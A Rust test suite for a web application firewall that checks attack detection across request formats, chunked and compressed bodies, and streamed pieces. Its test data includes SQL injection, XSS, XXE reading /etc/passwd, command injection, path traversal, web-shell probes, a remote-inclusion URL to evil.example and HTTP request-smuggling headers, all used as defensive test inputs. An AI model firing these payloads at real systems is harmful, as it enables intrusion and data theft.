//! Requests as they come in a stream of bytes, and what is found in them.

use std::sync::{LazyLock, Mutex, MutexGuard, PoisonError};

use proptest::prelude::*;
use waf::{Config, Connection, Decision, Waf, parse_config};

/// One for all tests: its automata take a while without optimisation.
fn waf() -> MutexGuard<'static, Waf> {
    static WAF: LazyLock<Mutex<Waf>> = LazyLock::new(|| Mutex::new(Waf::new(&Config::default()).unwrap()));
    WAF.lock().unwrap_or_else(PoisonError::into_inner)
}

/// Numbers of the checks and the decision, for pieces of one connection.
fn inspect<'a>(waf: &mut Waf, pieces: impl Iterator<Item = &'a [u8]>) -> (Vec<(u32, String, Vec<u8>)>, Decision) {
    let mut found = Vec::new();
    let mut connection = Connection::default();
    let mut worst = Decision::Continue;
    let mut out =
        |finding: waf::Finding<'_>| found.push((finding.id, finding.place.to_string(), finding.data.to_vec()));
    for piece in pieces {
        if waf.request_bytes(&mut connection, piece, &mut out) == Decision::Block {
            worst = Decision::Block;
        }
    }
    if waf.end(&mut connection, &mut out) == Decision::Block {
        worst = Decision::Block;
    }
    (found, worst)
}

fn ids(waf: &mut Waf, request: &[u8]) -> Vec<u32> {
    inspect(waf, [request].into_iter()).0.into_iter().map(|(id, ..)| id).collect()
}

fn encoded(value: &str) -> String {
    value
        .bytes()
        .map(|byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") })
        .collect()
}

const HEADERS: &str = "Host: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n";

fn get(value: &str) -> Vec<u8> {
    format!("GET /page?id={} HTTP/1.1\r\n{HEADERS}\r\n", encoded(value)).into_bytes()
}

fn post(kind: &str, body: &[u8]) -> Vec<u8> {
    let head =
        format!("POST /page HTTP/1.1\r\n{HEADERS}Content-Type: {kind}\r\nContent-Length: {}\r\n\r\n", body.len());
    [head.as_bytes(), body].concat()
}

#[test]
fn attacks_are_found_wherever_a_value_is() {
    let mut waf = waf();
    let mut missed = Vec::new();
    let lines =
        [include_str!("data/attacks.txt"), include_str!("data/variants.txt"), include_str!("data/techniques.txt")];
    for line in lines.into_iter().flat_map(str::lines) {
        let (_, payload) = line.split_once('\t').unwrap();
        let json = format!("{{\"a\": [{{\"b\": {}}}]}}", serde_json::to_string(payload).unwrap());
        let form = format!("x=1&comment={}", encoded(payload));
        let part = format!("--B\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\n{payload}\r\n--B--\r\n");
        for (place, request) in [
            ("query", get(payload)),
            ("form", post("application/x-www-form-urlencoded", form.as_bytes())),
            ("json", post("application/json", json.as_bytes())),
            ("multipart", post("multipart/form-data; boundary=B", part.as_bytes())),
        ] {
            if inspect(&mut waf, [&request[..]].into_iter()).1 != Decision::Block {
                missed.push(format!("{place} {line}"));
            }
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn ordinary_values_pass() {
    let mut waf = waf();
    let files =
        [include_str!("data/ordinary.txt"), include_str!("data/traffic.txt"), include_str!("data/everyday.txt")];
    let lines: Vec<&str> = files.into_iter().flat_map(str::lines).filter(|line| !line.is_empty()).collect();
    let wrong: Vec<String> = lines
        .iter()
        .map(|line| (line, ids(&mut waf, &get(line))))
        .filter(|(_, ids)| !ids.is_empty())
        .map(|(line, ids)| format!("{line} by {ids:?}"))
        .collect();
    // Some of the lines are near misses on purpose; one in a hundred may be taken for what it looks like.
    assert!(wrong.len() * 100 <= lines.len(), "{wrong:#?}");
}

#[test]
fn ordinary_requests_pass() {
    let mut waf = waf();
    let browser = "GET /shop/shoes?size=42&color=dark%20blue&sort=price HTTP/1.1\r\nHost: shop.example.com\r\nConnection: keep-alive\r\n\
        sec-ch-ua: \"Chromium\";v=\"126\", \"Not/A)Brand\";v=\"8\"\r\nUpgrade-Insecure-Requests: 1\r\nUser-Agent: Mozilla/5.0 (X11; Linux \
        x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36\r\nAccept: text/html,application/xhtml+xml,\
        application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7\r\nReferer: \
        https://www.example.net/search?q=blue+shoes&hl=en\r\nAccept-Encoding: gzip, deflate, br, zstd\r\nAccept-Language: \
        en-US,en;q=0.9\r\nCookie: _ga=GA1.1.1234.5678; session=eyJhIjoxfQ.Zx-1.abc_DEF; consent={\"a\":1}; theme=dark\r\nIf-None-Match: \
        W/\"5e-18\"\r\n\r\n";
    let upload = "--XX\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nMy summer's day & more; see #1\r\n--XX\r\n\
        Content-Disposition: form-data; name=\"file\"; filename=\"photo (1).jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\u{fffd}\0\x01binary<script>\r\n\
        --XX--\r\n";
    let json = r#"{"user":{"name":"Zoë O'Neil","bio":"I like SQL & tea; \"really\".\nSee https://example.com/?a=1"},"n":[1,2.5e3,null,true]}"#;
    let soap = "<?xml version=\"1.0\"?><e:Envelope xmlns:e=\"http://schemas.xmlsoap.org/soap/envelope/\"><e:Body><x>5 &lt; 6</x></e:Body></e:Envelope>";
    for request in [
        browser.as_bytes().to_vec(),
        post("multipart/form-data; boundary=XX", upload.as_bytes()),
        post("application/json", json.as_bytes()),
        post("application/json; charset=utf-8", b"[]"),
        post("text/xml", soap.as_bytes()),
        post("application/x-www-form-urlencoded", b"name=J%C3%BCrgen&text=100%25+sure%0D%0Asecond+line&empty="),
        format!("OPTIONS * HTTP/1.1\r\n{HEADERS}\r\n").into_bytes(),
        format!("PUT /api/items/42 HTTP/1.1\r\n{HEADERS}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n{{\"a\":\r\n2\r\n1}}\r\n0\r\n\r\n").into_bytes(),
    ] {
        assert_eq!(ids(&mut waf, &request), Vec::<u32>::new(), "{}", String::from_utf8_lossy(&request));
    }
}

/// What browsers, applications and programs send, from parts that are put together in all ways.
#[test]
fn ordinary_requests_of_many_kinds_pass() {
    let agents = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "okhttp/4.12.0",
        "PostmanRuntime/7.39.0",
        "python-requests/2.32.3",
        "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240605.024)",
    ];
    let cookies = [
        "_ga=GA1.2.1234567890.1718000000; _gid=GA1.2.987654321.1718100000; _gat_gtag_UA_1234_1=1",
        "OptanonConsent=isGpcEnabled=0&datestamp=Mon+Jun+17+2024+10%3A00%3A00+GMT%2B0200&version=202405.1.0&groups=C0001%3A1%2CC0002%3A0",
        "session=eyJhbGciOiJIUzI1NiJ9.eyJ1c2VyIjoxfQ.c2lnbmF0dXJl; csrftoken=Zk3-aB_9; lang=de-DE",
        "euconsent-v2=CPXxRfAPXxRfAAfKABENB-CgAAAAAAAAAAYgAAAAAAAA.YAAAAAAAAAAA; prefs=%7B%22theme%22%3A%22dark%22%2C%22n%22%3A3%7D",
        "_fbp=fb.1.1718000000000.1234567890; PHPSESSID=26s9k1h2c7v8b9n0m1; wp-settings-1=libraryContent%3Dbrowse",
    ];
    let targets = [
        "/search?q=how+to+select+a+table+from+a+catalogue&page=2",
        "/api/v2/users/42/orders?filter[status]=open&sort=-created_at&include=items,customer&fields[items]=id,name",
        "/de/schuhe/damen?farbe=wei%C3%9F&gr%C3%B6%C3%9Fe=38%2C5&preis=20-50",
        "/login?next=%2Faccount%2Forders%3Fyear%3D2024%26tab%3Dall",
        "/oauth/callback?code=4%2F0AX4XfWh-abc_DEF&state=eyJyIjoiLyJ9&scope=openid%20email%20profile",
        "/maps?ll=52.520008,13.404954&z=12&bbox=-0.1,51.4,0.1,51.6",
        "/static/js/main.3f2a1b.chunk.js?v=1.2.3",
        "/tags/c%2B%2B/questions?name=O%27Brien+%26+Sons",
        "/collect?v=2&tid=G-ABC123&dl=https%3A%2F%2Fwww.example.com%2Fshop%3Fa%3D1&dt=Shop%20%7C%20Example&sr=1920x1080&en=page_view&_et=1234",
    ];
    let bodies = [
        ("", String::new()),
        ("application/json", r#"{"query":"query Q($id: ID!, $n: Int = 10) { user(id: $id) { ...F posts(first: $n, orderBy: {field: DATE, direction: DESC}) { edges { node { title } } } } } fragment F on User { id name }","variables":{"id":"42"}}"#.to_owned()),
        ("application/json", r#"{"comment":"I'd use `let x = a[i] ?? 0;` here, e.g.\n\n```js\nitems.sort((a, b) => a.id - b.id)\n```\n- it's **faster**\n- [docs](https://example.com/a?b=c#d)","rating":4.5,"tags":["C#","R&D"]}"#.to_owned()),
        ("application/json; charset=UTF-8", r#"[{"op":"replace","path":"/a~1b/0","value":null},{"event":"click","ts":1718000000123,"sel":"div.main > ul li:nth-child(2) a[href]"}]"#.to_owned()),
        ("application/x-www-form-urlencoded", "name=Se%C3%A1n+O%27Neill&email=sean%2Bshop%40example.ie&msg=Hi%2C%0D%0AI%27d+like+to+order+2+of+%22A%22+and+1+of+%22B%22+--+thanks%21%0D%0ASe%C3%A1n&agree=on".to_owned()),
        ("text/xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><methodCall><methodName>wp.getPosts</methodName><params><param><value><int>1</int></value></param></params></methodCall>".to_owned()),
        ("multipart/form-data; boundary=----B7", "------B7\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n50% off: \"A\" & 'B' (new!)\r\n------B7\r\nContent-Disposition: form-data; name=\"file\"; filename=\"R\u{e9}sum\u{e9} - J. O\u{2019}Brien (final).pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7 <script> ' or 1=1\r\n------B7--\r\n".to_owned()),
    ];
    let mut waf = waf();
    let mut wrong = Vec::new();
    let mut count = 0;
    for (number, agent) in agents.iter().enumerate() {
        for (at, target) in targets.iter().enumerate() {
            for (kind, body) in &bodies {
                let cookie = cookies[(number + at) % cookies.len()];
                let method = if kind.is_empty() { "GET" } else { "POST" };
                let mut request = format!(
                    "{method} {target} HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: {agent}\r\nAccept: */*\r\nCookie: {cookie}\r\nReferer: https://www.example.com/a?b=c\r\n"
                );
                if !kind.is_empty() {
                    request += &format!("Content-Type: {kind}\r\nContent-Length: {}\r\n", body.len());
                }
                request += &format!("\r\n{body}");
                count += 1;
                let found = ids(&mut waf, request.as_bytes());
                if !found.is_empty() {
                    wrong.push(format!("{found:?} {target} {kind}"));
                }
            }
        }
    }
    wrong.dedup();
    assert!(wrong.is_empty(), "{} of {count}: {:#?}", wrong.len(), &wrong[..wrong.len().min(20)]);
}

#[test]
fn requests_that_smuggle_are_found_and_end_the_connection() {
    let mut waf = waf();
    for (headers, body, id) in [
        ("Content-Length: 5\r\nTransfer-Encoding: chunked", "0\r\n\r\nG", 92006),
        ("Content-Length: 5\r\nContent-Length: 6", "12345", 92109),
        ("Content-Length : 5", "12345", 92107),
        ("Transfer-Encoding: xchunked", "", 92108),
        ("Transfer-Encoding:\x0bchunked", "", 92108),
        ("Transfer-Encoding: chunked\x0c", "0\r\n\r\n", 92108),
        ("X: y\r\n Transfer-Encoding: chunked", "", 92104),
        ("Transfer-Encoding: chunked", "5;\r\nabc", 92112),
        ("Transfer-Encoding: chunked", "0x5\r\nabcde\r\n", 92110),
        ("Transfer-Encoding: chunked", "5\r\nabcdefg\r\n", 92111),
        ("Transfer-Encoding: chunked", "5\nabcde\r\n", 92101),
        ("Transfer-Encoding: chunked", "0\r\nContent-Length: 3\r\n\r\n", 92113),
        ("X: a\rTransfer-Encoding: chunked", "", 92102),
    ] {
        let request = format!("POST / HTTP/1.1\r\n{HEADERS}{headers}\r\n\r\n{body}");
        assert!(
            ids(&mut waf, request.as_bytes()).contains(&id),
            "{headers} {body}: {:?}",
            ids(&mut waf, request.as_bytes())
        );
    }
    assert_eq!(ids(&mut waf, b"\x16\x03\x01\x02\x00\x01\r\n\r\n"), [92050]);
    let endless = [b"GET / HTTP/1.1\r\nX: ".to_vec(), vec![b'a'; 70_000]].concat();
    assert_eq!(ids(&mut waf, &endless), [92040]);
}

#[test]
fn requests_follow_one_another() {
    let mut waf = waf();
    let both = [get("fine"), post("text/plain", b"fine"), get("1 or 1=1"), get("fine")].concat();
    let (found, decision) = inspect(&mut waf, [&both[..]].into_iter());
    assert!(found.iter().any(|(id, place, _)| *id == 94201 && place == "ARGS:id"), "{found:?}");
    assert_eq!(decision, Decision::Block);
}

#[test]
fn a_tunnel_does_not_undo_what_came_before_it() {
    let mut waf = Waf::new(&parse_config(br#"{"allowed_methods": ["GET", "CONNECT"]}"#).unwrap()).unwrap();
    let tunnel = format!("CONNECT www.example.com:443 HTTP/1.1\r\n{HEADERS}\r\nx").into_bytes();
    let decision = |waf: &mut Waf, request: &[u8]| waf.request_bytes(&mut Connection::default(), request, &mut |_| ());
    assert_eq!(decision(&mut waf, &tunnel), Decision::Continue);
    assert_eq!(decision(&mut waf, &[get("1 or 1=1"), tunnel].concat()), Decision::Block);
}

#[test]
fn lines_like_a_delimiter_of_multipart_are_content_or_reported() {
    let mut waf = waf();
    let mut found = |line: &str| {
        let body = format!("--B\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\n{line}\r\n--B--\r\n");
        ids(&mut waf, &post("multipart/form-data; boundary=B", body.as_bytes()))
    };
    let (letters, spaces) = ("A".repeat(5_000), " ".repeat(5_000));
    for start in ["--B", "--B-", "--B--", "--B  "] {
        assert_eq!(found(&format!("{start}{letters}")), Vec::<u32>::new(), "{start}");
        assert!(found(&format!("{start}{letters} <script>alert(1)</script>")).contains(&94101), "{start}");
    }
    assert!(found(&format!("--B{spaces}<script>alert(1)</script>")).contains(&92203));
    let field = "Content-Disposition: form-data; name=\"u\"\r\n\r\n<script>alert(1)</script>";
    assert!(found(&format!("a\r\n--B \t\r\n{field}")).contains(&94101), "padding of a delimiter is allowed");
}

#[test]
fn compressed_bodies_are_undone() {
    let plain = format!("{}&x={}", "a=b&".repeat(900), encoded("1' or '1'='1"));
    let raw = miniz_oxide::deflate::compress_to_vec(plain.as_bytes(), 6);
    let zlib = miniz_oxide::deflate::compress_to_vec_zlib(plain.as_bytes(), 6);
    let gzip = [b"\x1f\x8b\x08\x08\0\0\0\0\0\x03name\0".to_vec(), raw.clone(), vec![0; 8]].concat();
    for (coding, body) in [("gzip", gzip), ("deflate", zlib), ("deflate", raw)] {
        let head = format!(
            "POST / HTTP/1.1\r\n{HEADERS}Content-Type: application/x-www-form-urlencoded\r\nContent-Encoding: {coding}\r\nContent-Length: {}\r\n\r\n",
            body.len()
        );
        let request = [head.as_bytes(), &body].concat();
        assert!(ids(&mut waf(), &request).contains(&94201), "{coding}");
    }
    let broken = format!(
        "POST / HTTP/1.1\r\n{HEADERS}Content-Type: text/plain\r\nContent-Encoding: gzip\r\nContent-Length: 4\r\n\r\nabcd"
    );
    assert!(ids(&mut waf(), broken.as_bytes()).contains(&92045));
}

#[test]
fn attacks_are_found_in_paths_headers_and_names() {
    let mut waf = waf();
    for (request, id) in [
        (format!("GET /a/%3Csvg%20onload=alert(1)%3E HTTP/1.1\r\n{HEADERS}\r\n"), 94101),
        (format!("GET / HTTP/1.1\r\n{HEADERS}X-Forwarded-For: 1' and sleep(5)#\r\n\r\n"), 94203),
        (format!("GET /?GALLERY_BASEDIR=http://evil.example/x/ HTTP/1.1\r\n{HEADERS}\r\n"), 93108),
        (format!("GET /docs/union+select+1 HTTP/1.1\r\n{HEADERS}\r\n"), 94202),
        (format!("GET /index.php.save HTTP/1.1\r\n{HEADERS}\r\n"), 92030),
        (format!("GET /sh.php?whoami HTTP/1.1\r\n{HEADERS}\r\n"), 93205),
        (format!("GET /sh.php?ifconfig HTTP/1.1\r\n{HEADERS}\r\n"), 93205),
        (format!("GET /sh.php?printenv HTTP/1.1\r\n{HEADERS}\r\n"), 93205),
        (format!("GET /sh.php HTTP/1.1\r\n{HEADERS}Cookie: whoami=1\r\n\r\n"), 93205),
        (format!("GET /sh.php?c=pwd HTTP/1.1\r\n{HEADERS}\r\n"), 93212),
    ] {
        let found = ids(&mut waf, request.as_bytes());
        assert!(found.contains(&id), "{request}: {found:?}");
    }
    for request in [
        format!("GET /docs/union-select-explained HTTP/1.1\r\n{HEADERS}\r\n"),
        format!("GET /games/1.save?pwd=x&uname=y HTTP/1.1\r\n{HEADERS}\r\n"),
        format!(
            "GET /?path=http://www.example.com/x HTTP/1.1\r\n{HEADERS}X-Forwarded-For: 192.0.2.1, 10.0.0.1\r\n\r\n"
        ),
    ] {
        assert_eq!(ids(&mut waf, request.as_bytes()), Vec::<u32>::new(), "{request}");
    }
    let login = post("application/json", b"{\"uname\": \"jo\", \"pwd\": \"aB3$%^&*()_+\"}");
    assert_eq!(ids(&mut waf, &login), Vec::<u32>::new());
    let body = post("application/grpc-web+proto", b"\0\0\0\0\x05\x0a\x03abc");
    assert_eq!(ids(&mut waf, &body), Vec::<u32>::new());
}

#[test]
fn a_body_that_begins_as_a_request_only_warns() {
    let (found, decision) = inspect(&mut waf(), [&post("text/plain", b"GET / HTTP/1.1")[..]].into_iter());
    assert_eq!(found.iter().map(|(id, ..)| *id).collect::<Vec<_>>(), [92132]);
    assert_eq!(decision, Decision::Continue);
}

/// Conditions that people write too warn, and block with another finding only.
#[test]
fn conditions_without_quote_or_comment_only_warn() {
    let mut waf = waf();
    for value in ["5 xor 3", "0 or null", "0 and false", "0 is false", "1 is true", "7 is null"] {
        let (found, decision) = inspect(&mut waf, [&get(value)[..]].into_iter());
        let ids: Vec<u32> = found.iter().map(|(id, ..)| *id).collect();
        assert_eq!((ids, decision), (vec![94213], Decision::Continue), "{value}");
    }
}

#[test]
fn levels_thresholds_and_exclusions_are_obeyed() {
    let text = "<b>bold</b>";
    assert_eq!(ids(&mut waf(), &get(text)), Vec::<u32>::new());
    let mut second = Waf::new(&parse_config(br#"{"paranoia_level": 2}"#).unwrap()).unwrap();
    assert!(ids(&mut second, &get(text)).contains(&94113));
    let mut highest = Waf::new(&parse_config(br#"{"paranoia_level": 4}"#).unwrap()).unwrap();
    let many = ids(&mut highest, &get("a'b;c(d)e=f<g>h"));
    assert!(many.contains(&94212) && many.contains(&94113), "{many:?}");

    let no_agent = b"GET / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent:\r\nAccept: */*\r\n\r\n";
    let (found, decision) = inspect(&mut waf(), [&no_agent[..]].into_iter());
    assert_eq!((found.len(), decision), (1, Decision::Continue), "a notice alone does not block");
    let mut strict = Waf::new(&parse_config(br#"{"inbound_threshold": 2}"#).unwrap()).unwrap();
    assert_eq!(inspect(&mut strict, [&no_agent[..]].into_iter()).1, Decision::Block);

    for (exclusion, passes) in [
        (r#"{"parameter": "id", "path": "/page", "category": "sqli"}"#, true),
        (r#"{"path": "/other", "category": "sqli"}, {"parameter": "other"}, {"check": 94999}"#, false),
    ] {
        let config = parse_config(format!(r#"{{"exclusions": [{exclusion}]}}"#).as_bytes()).unwrap();
        let found = ids(&mut Waf::new(&config).unwrap(), &get("1' or '1'='1"));
        assert_eq!(found.is_empty(), passes, "{exclusion}: {found:?}");
    }
}

#[test]
fn memory_is_held_only_while_a_request_is_open() {
    let (mut waf, mut connection) = (waf(), Connection::default());
    let request = post("text/plain", &[b'a'; 100_000]);
    let mut most = 0;
    for piece in request.chunks(1000) {
        waf.request_bytes(&mut connection, piece, &mut |_| ());
        most = most.max(connection.held());
    }
    assert!((1..64_000).contains(&most), "{most}");
    assert_eq!(connection.held(), 0);
    assert!(size_of::<Connection>() <= 48);
}

/// Requests of all shapes, good and bad.
fn requests() -> impl Strategy<Value = Vec<u8>> {
    let chunked = format!(
        "POST /a HTTP/1.1\r\n{HEADERS}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n8;x=y\r\n{{\"a\": \"1\r\n11\r\n' or 1=1 -- \\u0041\"}}\r\n0\r\nX: y\r\n\r\n"
    );
    let multipart = "--B\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\none\r\n--Bx\r\ntwo ../../etc/passwd\r\n--B\r\nContent-Disposition: \
        form-data; name=\"f\"; filename=\"x.php\"\r\n\r\n\0\r\n--B--\r\n";
    let gzip = [
        b"\x1f\x8b\x08\0\0\0\0\0\0\x03".to_vec(),
        miniz_oxide::deflate::compress_to_vec(b"a=<script>alert(1)</script>&b=2", 6),
    ]
    .concat();
    let mut zipped = format!("POST /z HTTP/1.1\r\n{HEADERS}Content-Type: application/x-www-form-urlencoded\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n", gzip.len()).into_bytes();
    zipped.extend(gzip);
    let shapes = vec![
        get("1' or 1=1 -- "),
        get("fine"),
        chunked.into_bytes(),
        post("multipart/form-data; boundary=B", multipart.as_bytes()),
        post("text/xml", b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a c='<script>'>&b;<![CDATA[; cat /etc/passwd]]></a>"),
        post("application/json", b"{\"a\": [1, 2, \"x\\\"y\"], \"b\": {\"c\": broken; cat /etc/passwd"),
        post("text/plain", "it's a long text; ".repeat(1000).as_bytes()),
        zipped,
        b"\r\n\r\nGET /x HTTP/1.1\nHost : a\r\n\r\n".to_vec(),
    ];
    prop::collection::vec((prop::sample::select(shapes), any::<prop::sample::Index>(), any::<Option<u8>>()), 1..4)
        .prop_map(|requests| {
            let mut all = Vec::new();
            for (mut request, at, byte) in requests {
                if let Some(byte) = byte.filter(|byte| *byte < 64) {
                    let at = at.index(request.len());
                    request[at] = byte;
                }
                all.extend(request);
            }
            all
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(40))]

    #[test]
    fn any_pieces_find_the_same(request in requests(), sizes in prop::collection::vec(1_usize..40, 1..6)) {
        let mut waf = waf();
        let whole = inspect(&mut waf, [&request[..]].into_iter());
        prop_assert_eq!(&inspect(&mut waf, request.chunks(1)), &whole);
        let mut pieces = Vec::new();
        let (mut rest, mut sizes) = (&request[..], sizes.iter().cycle());
        while !rest.is_empty() {
            let (piece, more) = rest.split_at(rest.len().min(*sizes.next().unwrap()));
            pieces.push(piece);
            rest = more;
        }
        prop_assert_eq!(&inspect(&mut waf, pieces.into_iter()), &whole);
    }

    #[test]
    fn any_bytes_are_read_without_a_panic(bytes in prop::collection::vec(any::<u8>(), 0..300), value in ".{0,80}") {
        let mut waf = waf();
        inspect(&mut waf, [&bytes[..]].into_iter());
        inspect(&mut waf, [&get(&value)[..]].into_iter());
        inspect(&mut waf, [&post("application/json", &bytes)[..]].into_iter());
        inspect(&mut waf, [&post("text/xml", &bytes)[..]].into_iter());
        inspect(&mut waf, [&post("multipart/form-data; boundary=a", &bytes)[..]].into_iter());
    }
}

#[test]
fn every_check_is_documented() {
    let text = include_str!("../../../docs/waf.md");
    let missing: Vec<u32> =
        waf::checks().map(|check| check.0).filter(|id| !text.contains(&format!("| {id} |"))).collect();
    assert!(missing.is_empty(), "{missing:?}");
}
